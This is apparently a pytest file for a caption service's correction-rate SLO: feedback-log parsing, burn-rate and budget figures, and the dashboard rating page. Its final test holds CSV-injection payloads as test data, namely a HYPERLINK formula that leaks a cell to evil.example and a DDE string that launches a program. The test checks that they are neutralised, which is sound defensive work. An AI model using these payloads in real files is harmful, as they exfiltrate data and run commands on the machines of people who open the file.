"""The correction-rate SLI: a feedback log of accepted, corrected and rejected captions, read by
``harness slo``; written by the dashboard's rating page; exact figures on a constructed log."""

import csv
import io
import json
import sys
import time
from fractions import Fraction
from pathlib import Path

import pytest

from harness.cli import main
from harness.errors import EXIT_DATA, EXIT_MISSING, DataError
from harness.records import RecordWriter, RequestRecord, load_records
from harness.slo import evaluate_records, parse_spec
from harness.slo.kinds import registry
from harness.slo.kinds.correction import FEEDBACK_COLUMNS, read_feedback

ROOT = Path(__file__).resolve().parents[2]
DASH = ROOT / "dashboards"
T0 = 1_700_000_000

SPEC = """
service: captioner
traffic_rps: 1
slos:
  - {name: accepted, sli: correction, objective: 0.95}
"""


def write_log(folder: Path, n: int = 100) -> Path:
    """``n`` actions 36 s apart from T0: every tenth (i = 9, 19, ...) is bad, 6 corrected then 4 rejected."""
    lines = [",".join(FEEDBACK_COLUMNS)]
    bad = 0
    for i in range(n):
        if i % 10 == 9:
            action, fixed = ("corrected", "a blue square") if bad < 6 else ("rejected", "")
            bad += 1
        else:
            action, fixed = "accepted", ""
        when = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(T0 + 36 * i)) if i % 2 else str(T0 + 36 * i)
        lines.append(f"img{i},q{i},{when},{action},{fixed},ana,canary")
    path = folder / "feedback.csv"
    path.write_text("\n".join(lines) + "\n")
    return path


def run_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "run"
    with RecordWriter(folder) as w:
        w.write(
            RequestRecord(
                run_id="r",
                target="canary",
                scenario="s",
                request_id="q0",
                image_id="img0",
                t_start=float(T0 - 10),
                latency_s=0.2,
                status=200,
                outcome="ok",
                caption="a red circle",
            )
        )
    write_log(folder)
    return folder


def test_the_kind_is_one_module_of_the_registry():
    assert "correction" in registry()
    assert registry()["correction"].__module__ == "harness.slo.kinds.correction"


def test_a_constructed_log_gives_the_exact_ratio_burn_rate_and_budget(tmp_path):
    folder = run_folder(tmp_path)
    report = evaluate_records(parse_spec(SPEC), load_records(folder), folder=folder)
    (r,) = report.results
    # 100 actions, 90 accepted: ratio 0.9; error ratio 0.1 over a 0.05 budget
    assert (r.sli.good, r.sli.total, r.sli.bad) == (90, 100, 10)
    assert r.sli.ratio == 0.9 and r.met is False
    assert dict(r.sli.figures) == {"accepted": 90, "corrected": 6, "rejected": 4}
    assert (r.budget.allowed, r.budget.consumed, r.budget.remaining) == (5.0, 2.0, -1.0)
    page_1h = r.windows[0]
    # the windows end at the last action (T0 + 3564 s): the hour holds all 100 (burn 0.1 / 0.05 = 2),
    # the last 5 minutes the actions i = 91..99, of which one (i = 99) is bad: (1/9) / 0.05 = 20/9
    assert (page_1h.long, page_1h.short, page_1h.long_events, page_1h.short_events) == ("1h", "5m", 100, 9)
    assert page_1h.long_burn == 2.0 and page_1h.short_burn == float(Fraction(20, 9))
    assert page_1h.fires is False
    # sustained at 1 action a second, a 2x burn spends the 30-day budget in 15 days
    assert r.projection[0].burn_rate == 2.0 and r.projection[0].exhaustion_s == 15 * 86400


def test_harness_slo_reads_the_log_in_the_run_folder(tmp_path, capsys):
    folder = run_folder(tmp_path)
    spec = tmp_path / "slo.yaml"
    spec.write_text(SPEC)
    assert main(["slo", "--spec", str(spec), "--records", str(folder), "--out", str(tmp_path / "out")]) == 0
    data = json.loads((tmp_path / "out" / "slo.json").read_text())
    sli = data["slos"][0]["sli"]
    assert (sli["kind"], sli["good"], sli["total"], sli["ratio"]) == ("correction", 90, 100, 0.9)
    assert sli["figures"] == {"accepted": 90, "corrected": 6, "rejected": 4}
    assert "| accepted | correction | 95.00% | 90.000% | 90 / 100 |" in (tmp_path / "out" / "slo.md").read_text()


def test_a_jsonl_log_at_a_path_of_the_spec(tmp_path):
    folder = run_folder(tmp_path)
    (folder / "feedback.csv").unlink()
    rows = [
        {"request_id": "q1", "time": T0, "action": "accepted"},
        {"image_id": "img2", "time": "2023-11-14T22:13:20", "action": "rejected", "rater": "bo"},
    ]
    (folder / "people.jsonl").write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    spec = parse_spec(SPEC.replace("objective: 0.95}", "objective: 0.95, feedback: people.jsonl}"))
    (r,) = evaluate_records(spec, load_records(folder), folder=folder).results
    assert (r.sli.good, r.sli.total) == (1, 2)
    assert [e.time for e in read_feedback(folder / "people.jsonl")] == [T0, T0]
    assert r.to_dict()["feedback"] == "people.jsonl"


def test_no_log_is_no_data(tmp_path):
    folder = run_folder(tmp_path)
    (folder / "feedback.csv").unlink()
    (r,) = evaluate_records(parse_spec(SPEC), load_records(folder), folder=folder).results
    assert r.sli.total == 0 and r.sli.note.startswith("no data: no feedback log")


@pytest.mark.parametrize(
    "line, message",
    [
        (
            "img5,q5,2024-01-01T00:00:00Z,approved,,ana,canary",
            "line 3: action must be one of accepted, corrected, rejected (got 'approved')",
        ),
        ("img5,q5,yesterday,accepted,,ana,canary", "line 3: time must be ISO 8601 or unix seconds (got 'yesterday')"),
        (",,2024-01-01T00:00:00Z,accepted,,ana,canary", "line 3: needs an image_id or a request_id"),
        ("img5,q5,,accepted,,ana,canary", "line 3: time is missing"),
        ("img5,q5,nan,accepted,,ana,canary", "line 3: time must be ISO 8601 or unix seconds (got 'nan')"),
        ("img5,q5,1,accepted,,ana,canary,extra", "line 3: more fields than the header has"),
        ("img5,q5,1,accepted", "line 3: fewer fields than the header has"),
    ],
)
def test_a_malformed_row_is_one_line_naming_it_and_exit_65(line, message, tmp_path, capsys):
    folder = run_folder(tmp_path)
    log = folder / "feedback.csv"
    head, first, *rest = log.read_text().splitlines()
    log.write_text("\n".join([head, first, line, *rest]) + "\n")
    with pytest.raises(DataError) as err:
        read_feedback(log)
    assert str(err.value) == f"{log}: {message}"
    spec = tmp_path / "slo.yaml"
    spec.write_text(SPEC)
    assert main(["slo", "--spec", str(spec), "--records", str(folder), "--out", str(tmp_path / "o")]) == EXIT_DATA
    out = capsys.readouterr().err
    assert out.count("\n") == 1 and message in out and "Traceback" not in out


def test_a_log_named_by_the_spec_must_exist(tmp_path, capsys):
    folder = run_folder(tmp_path)
    spec = tmp_path / "slo.yaml"
    spec.write_text(SPEC.replace("objective: 0.95}", "objective: 0.95, feedback: nope.csv}"))
    assert main(["slo", "--spec", str(spec), "--records", str(folder), "--out", str(tmp_path / "o")]) == EXIT_MISSING
    assert "nope.csv: feedback log not found" in capsys.readouterr().err


def test_a_log_that_is_not_utf8(tmp_path):
    path = tmp_path / "feedback.csv"
    path.write_bytes(b"image_id,time,action\nimg\xe9,1,accepted\n")
    with pytest.raises(DataError, match=r"feedback\.csv: not UTF-8 text \(byte 0xe9 at offset 24\)"):
        read_feedback(path)


# ---- the dashboard writes the log ---------------------------------------------------------------------


@pytest.fixture()
def ratings_module():
    sys.path.insert(0, str(DASH))
    try:
        import ratings

        yield ratings
    finally:
        sys.path.remove(str(DASH))


def test_append_feedback_writes_rows_the_sli_reads(tmp_path, ratings_module):
    r = ratings_module
    r.append_feedback(tmp_path, r.FeedbackRow("7", "q7", "accepted", "", " ana ", "canary"), clock=lambda: T0)
    r.append_feedback(
        tmp_path,
        r.FeedbackRow("8", "", "corrected", ' a "red", round circle ', "bo", "baseline"),
        clock=lambda: T0 + 60,
    )
    r.append_feedback(tmp_path, r.FeedbackRow("9", "q9", "rejected", "ignored", "cy", "canary"), clock=lambda: T0 + 61)
    assert (tmp_path / "feedback.csv").read_text() == (
        "image_id,request_id,time,action,corrected_caption,rater,target\n"
        "7,q7,2023-11-14T22:13:20Z,accepted,,ana,canary\n"
        '8,,2023-11-14T22:14:20Z,corrected,"a ""red"", round circle",bo,baseline\n'
        "9,q9,2023-11-14T22:14:21Z,rejected,,cy,canary\n"
    )
    rows = read_feedback(tmp_path / "feedback.csv")
    assert [(e.image_id, e.request_id, e.time, e.action) for e in rows] == [
        ("7", "q7", T0, "accepted"),
        ("8", None, T0 + 60, "corrected"),
        ("9", "q9", T0 + 61, "rejected"),
    ]
    assert rows[1].corrected_caption == 'a "red", round circle'
    for bad, message in [
        (r.FeedbackRow("7", "", "liked", "", "ana", "c"), "not one of"),
        (r.FeedbackRow("7", "", "corrected", " ", "ana", "c"), "needs the corrected caption"),
        (r.FeedbackRow("7", "", "accepted", "", " ", "c"), "person's name"),
        (r.FeedbackRow("", "", "accepted", "", "ana", "c"), "image id or a request id"),
    ]:
        with pytest.raises(ValueError, match=message):
            r.append_feedback(tmp_path, bad)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feedback.csv"]


def test_the_rating_page_appends_accept_correct_and_reject(tmp_path, monkeypatch):
    pytest.importorskip("streamlit")
    from streamlit.testing.v1 import AppTest

    from dashboard_fixture import build_reports

    reports = build_reports(tmp_path / "reports")
    monkeypatch.setenv("HARNESS_REPORTS", str(reports.root))
    at = AppTest.from_file(str(DASH / "app.py"), default_timeout=60)
    at.run()
    at.switch_page("views/rate.py").run()
    assert not at.exception, [e.value for e in at.exception]
    buttons = {b.label: b for b in at.button if b.label in ("Accept caption", "Save correction", "Reject caption")}
    assert sorted(buttons) == ["Accept caption", "Reject caption", "Save correction"]
    log = reports.new / "feedback.csv"
    buttons["Accept caption"].click().run()
    assert _errors(at) == ["Enter your name before accepting, correcting or rejecting a caption."] and not log.exists()

    at.text_input(key="rater").input("ana").run()
    shown = []
    for label, text in (("Accept caption", ""), ("Save correction", "a green triangle"), ("Reject caption", "")):
        shown.append(at.text[0].value)
        if text:
            at.text_input(key="feedback_caption").input(text)
        [b for b in at.button if b.label == label][0].click().run()
        assert not at.exception, [e.value for e in at.exception]
    rows = read_feedback(log)
    assert [(e.action, e.corrected_caption) for e in rows] == [
        ("accepted", None),
        ("corrected", "a green triangle"),
        ("rejected", None),
    ]
    records = load_records(reports.new)
    for e, caption in zip(rows, shown):
        match = records[(records["image_id"] == e.image_id) & (records["caption"] == caption)]
        assert len(match) and e.request_id in set(match["request_id"])
    spec = tmp_path / "slo.yaml"
    spec.write_text(SPEC)
    assert main(["slo", "--spec", str(spec), "--records", str(reports.new), "--out", str(tmp_path / "o")]) == 0
    sli = json.loads((tmp_path / "o" / "slo.json").read_text())["slos"][0]["sli"]
    assert (sli["good"], sli["total"], sli["figures"]) == (1, 3, {"accepted": 1, "corrected": 1, "rejected": 1})


def _errors(at):
    return [e.value for e in at.error]


def test_the_example_spec(tmp_path):
    folder = run_folder(tmp_path)
    spec = parse_spec((ROOT / "examples" / "correction.yaml").read_text())
    (r,) = evaluate_records(spec, load_records(folder), folder=folder).results
    assert (r.slo.name, r.slo.objective, r.sli.ratio, r.met) == ("accepted-captions", 0.9, 0.9, True)


def test_text_that_a_spreadsheet_would_run_is_neutralised_and_read_back_as_it_was(tmp_path, ratings_module):
    """OWASP's CSV injection rule on the files people open: a cell starting with = + - @ tab or CR
    is written with a leading apostrophe (so is one already starting with an apostrophe), and the
    readers give the original back."""
    from harness.quality.hybrid import load_ratings

    r = ratings_module
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
    texts = [formula, "+1 square", "-2 circles", "@SUM(A1:A9)", "\tcat", "'tis a red circle", "a plain caption"]
    for i, text in enumerate(texts):
        r.append_feedback(tmp_path, r.FeedbackRow(str(i), "", "corrected", text, "=cmd|' /C calc'!A0", "canary"))
        r.append_rating(tmp_path, r.RatingRow(f"-{i}", "@rater", 3, "canary", text))
    raw = (tmp_path / "feedback.csv").read_text() + (tmp_path / "ratings.csv").read_text()
    for row in csv.reader(io.StringIO(raw)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    rows = read_feedback(tmp_path / "feedback.csv")
    assert [e.corrected_caption for e in rows] == [t.strip() for t in texts]
    assert "'=cmd|' /C calc'!A0" in raw  # the rater's name, neutralised on disk
    ratings = load_ratings(tmp_path / "ratings.csv")
    assert [(x.image_id, x.rater) for x in ratings] == [(f"-{i}", "@rater") for i in range(len(texts))]
